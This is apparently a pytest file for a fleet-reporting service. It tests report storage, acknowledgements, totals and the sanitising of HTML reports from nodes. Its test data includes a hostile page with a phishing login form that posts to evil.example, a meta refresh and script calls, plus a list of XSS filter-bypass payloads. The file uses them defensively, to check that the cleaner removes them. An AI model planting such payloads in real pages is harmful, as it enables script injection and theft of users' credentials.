"""Reports: idempotent storage, acks, aggregate math and the HTML that embeds node reports."""

from __future__ import annotations

import json
import re

import pytest
from ovr_fleet import outbox, protocol, registry, reports
from ovr_fleet.store import tx


def report(report_id: str, event_id: str = "ev-1", **summary) -> dict:
    return {"report_id": report_id, "hash": f"sha256:{report_id}-{sorted(summary.items())}", "event": {"id": event_id, "name": "R"},
            "system_id": "gx-1", "generated_at": 1_760_000_000_000, "report": {"summary": summary, "loggers": []},
            "html": f"<h1>{report_id}</h1><script>alert(1)</script>", "ts": 1_760_000_000_000, "schema": 1}


def acks(conn) -> list[dict]:
    return [json.loads(r["payload"]) for r in outbox.pending(conn) if r["topic"].endswith("/cmd/ack")]


def test_report_is_stored_once_and_acknowledged_every_time(conn):
    with tx(conn):
        registry.create(conn, "Regatta", "dep", "ada", event_id="ev-1")
        first = reports.ingest(conn, "edge-a", report("r1", energy_wh=1000))
        again = reports.ingest(conn, "edge-a", report("r1", energy_wh=1000))
        changed = reports.ingest(conn, "edge-a", report("r1", energy_wh=1100))
    assert (first["status"], again["status"], changed["status"]) == ("stored", "duplicate", "replaced")
    assert [a["report_id"] for a in acks(conn)] == ["r1", "r1", "r1"]
    assert all(a["schema"] == 1 and isinstance(a["ts"], int) for a in acks(conn))
    assert [r["topic"] for r in outbox.pending(conn) if r["topic"].endswith("/cmd/ack")] == ["ovr/edge-a/cmd/ack"] * 3
    [meta] = reports.list_reports(conn, event_id="ev-1")
    assert meta["node_id"] == "edge-a" and meta["has_html"] is True
    assert reports.report_json(reports.get(conn, "r1"))["report"]["summary"] == {"energy_wh": 1100}


def test_report_of_another_node_with_the_same_id_is_refused(conn):
    with tx(conn):
        reports.ingest(conn, "edge-a", report("r1"))
        with pytest.raises(protocol.BadMessage):
            reports.ingest(conn, "edge-b", report("r1"))


def test_report_without_hash_gets_one_and_without_id_is_refused(conn):
    msg = report("r2")
    del msg["hash"]
    with tx(conn):
        assert reports.ingest(conn, "edge-a", msg)["status"] == "stored"
        with pytest.raises(protocol.BadMessage):
            reports.ingest(conn, "edge-a", {"event": {"id": "ev"}})
    assert reports.get(conn, "r2")["hash"].startswith("sha256:")


def test_reports_under_an_aligned_local_id_land_on_the_canonical_event(conn):
    with tx(conn):
        registry.handle_lifecycle(conn, "edge-a", "dep", {"op": "start", "event": {"id": "ev-1", "name": "Regatta"}}, 0.9, 0.8)
        registry.handle_lifecycle(conn, "edge-b", "dep", {"op": "start", "event": {"id": "ev-b", "name": "Regatta"}}, 0.9, 0.8)
        out = reports.ingest(conn, "edge-b", report("rb", "ev-b"))
    assert out["event_id"] == "ev-1"
    assert reports.get(conn, "rb")["event_id_original"] == "ev-b"


def test_combine_math():
    total = reports.combine([{"energy_wh": 1000.5, "peak_w": 3000, "min_soc": 40, "avg_power_w": 900, "load_pct": 50,
                              "diesel_saved_l": 2, "note": "x"},
                             {"energy_wh": 499.5, "peak_w": 4500, "min_soc": 35, "power_factor": 0.9, "diesel_saved_l": 1.5},
                             {}])
    assert total == {"diesel_saved_l": 3.5, "energy_wh": 1500.0, "min_soc": 35.0, "peak_w": 4500.0}


def test_aggregate_json_and_html(conn):
    with tx(conn):
        registry.create(conn, "Regatta <2026>", "dep", "ada", event_id="ev-1")
        reports.ingest(conn, "edge-a", report("ra", energy_wh=1000, peak_w=3000))
        reports.ingest(conn, "edge-b", report("rb", energy_wh=500, peak_w=4000))
        msg = report("rc", energy_wh=1)
        del msg["html"]
        reports.ingest(conn, "edge-c", msg)
    agg = reports.aggregate(conn, "ev-1")
    assert agg["reports"] == 3 and agg["nodes"] == ["edge-a", "edge-b", "edge-c"]
    assert agg["totals"] == {"energy_wh": 1501.0, "peak_w": 4000.0}
    assert agg["event"]["name"] == "Regatta <2026>"
    page = reports.aggregate_html(conn, "ev-1")
    assert "Regatta &lt;2026&gt;" in page and "<script>" not in page
    assert page.count("<iframe sandbox srcdoc=") == 2 and "&lt;h1&gt;ra&lt;/h1&gt;" in page
    assert "&quot;energy_wh&quot;: 1" in page  # the report without HTML is shown as JSON
    with pytest.raises(registry.NotFound):
        reports.aggregate(conn, "nope")
    assert reports.events_with_reports(conn)[0]["reports"] == 3


HOSTILE = ("<!doctype html><html><head><meta charset=utf-8><meta http-equiv=refresh content='0;url=https://evil.example/'>"
           "<META HTTP-EQUIV='Refresh' CONTENT='1'><base href='https://evil.example/'><style>h1{color:red}</style></head><body>"
           "<h1 onclick='steal()' class=t>Report</h1><form action='https://evil.example/login' method=post>"
           "<p>Session expired, log in again</p><input name=password type=password><button>Log in</button></form>"
           "<script>fetch('/api/nodes')</script><a href='javascript:alert(1)'>details</a><iframe src='https://evil.example/'>"
           "x</iframe><img src='https://evil.example/pixel.gif' alt=pixel><img src='data:image/png;base64,iVBORw0KGgo=' alt=photo>"
           "<table><tr><td style='width:10px'>1 &lt; 2</td></tr></table><!-- <script>alert(2)</script> --></body></html>")


def test_report_html_from_a_node_is_cleaned_and_what_was_removed_is_said(conn):
    """A node's HTML is served on the operator origin: whatever the sandbox does not stop in
    every browser (a meta refresh) or a phishing form is removed before it is stored."""
    with tx(conn):
        out = reports.ingest(conn, "edge-a", report("rh") | {"html": HOSTILE})
    assert out["status"] == "stored" and [a["report_id"] for a in acks(conn)] == ["rh"]
    assert {"<meta http-equiv>", "<base>", "<form>", "<script>", "<iframe>", "<input>", "<button>", "<a>",
            "onclick=", "img src (not a data: image)"} <= set(out["refused"])
    page = reports.get(conn, "rh")["html"]
    for bad in ("http-equiv", "refresh", "<base", "<form", "<input", "<button", "<script", "<iframe", "<a ", "onclick",
                "javascript:", "evil.example", "fetch(", "alert("):
        assert bad not in page.lower(), bad
    for kept in ("<!doctype html>", '<meta charset="utf-8">', "<style>h1{color:red}</style>", '<h1 class="t">Report</h1>',
                 "Session expired, log in again", "details", 'src="data:image/png;base64,iVBORw0KGgo="', 'alt="pixel"',
                 '<td style="width:10px">1 &lt; 2</td>'):
        assert kept in page, kept
    assert reports.clean_html(page) == (page, [])  # cleaning twice changes nothing


def test_report_html_as_the_edge_renders_it_is_kept(conn):
    edge = ("<!doctype html><html lang=en><head><meta charset=utf-8><meta name=viewport content=\"width=device-width\">"
            "<title>Report: Fest &amp; Co</title><style>\nbody{font-family:system-ui,sans-serif}\n.bar{display:inline-block}"
            "</style></head><body>\n<h1>Fest &amp; Co</h1><p class=muted>event e1 · node edge-a</p><section class=card><h2>gx-1</h2>"
            "<table><tr><th>Energy (real)</th><td>12.5 Wh</td></tr><tr><td>L1</td><td><div class=bar style='width:40px'></div>"
            " 20.0%</td></tr></table><h3>Load</h3></section><h2>Notes</h2><ul><li><b>2026-11-27 10:00:00 UTC</b> gx-1 hi</li>"
            "</ul><h2>Photos</h2><figure><img src='/api/photos/3/file' alt='dock' loading=lazy><figcaption>dock</figcaption>"
            "</figure></body></html>\n")
    page, removed = reports.clean_html(edge)
    assert removed == ["img src (not a data: image)"]  # the edge's photo URLs mean nothing on the cloud
    for kept in ('<meta name="viewport" content="width=device-width">', "<title>Report: Fest &amp; Co</title>",
                 '<div class="bar" style="width:40px"></div>', '<img alt="dock" loading="lazy">', "<figcaption>dock</figcaption>",
                 "<li><b>2026-11-27 10:00:00 UTC</b> gx-1 hi</li>", "body{font-family:system-ui,sans-serif}"):
        assert kept in page, kept


@pytest.mark.parametrize("page", [
    "<scr<script>ipt>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<meta content='0;url=//e' http-equiv='refresh'>", "<SCRIPT>alert(1)</SCRIPT>",
    "<style>@import 'https://e/x.css'</style>", "<title><script>alert(1)</script></title>", "<p/onclick=alert(1)>x",
    "<iframe/srcdoc='<script>alert(1)</script>'>", "<embed src=x><p>after</p>", "<img src='data:image/svg+xml;base64,AA'>",
    "<div style='background:url(https://e)'>x</div>", "<!--><script>alert(1)</script>-->", "<form><button formaction=x>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>", "<object data=x></object><link rel=import href=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<base href=//e/><p>unterminated <a href='javascript:x'",
])
def test_cleaned_html_has_no_active_tag_whatever_the_trick(page):
    out, _ = reports.clean_html(page)
    low = out.lower()
    for tag in ("<script", "<iframe", "<svg", "<math", "<form", "<button", "<a ", "<embed", "<object", "<link", "<base", "<noscript"):
        assert tag not in low, (page, out)
    assert "http-equiv" not in low and "url(" not in low and "@import" not in low
    assert not re.search(r"<[^>]*\son[a-z]+=", low), out
    assert reports.clean_html(out) == (out, [])
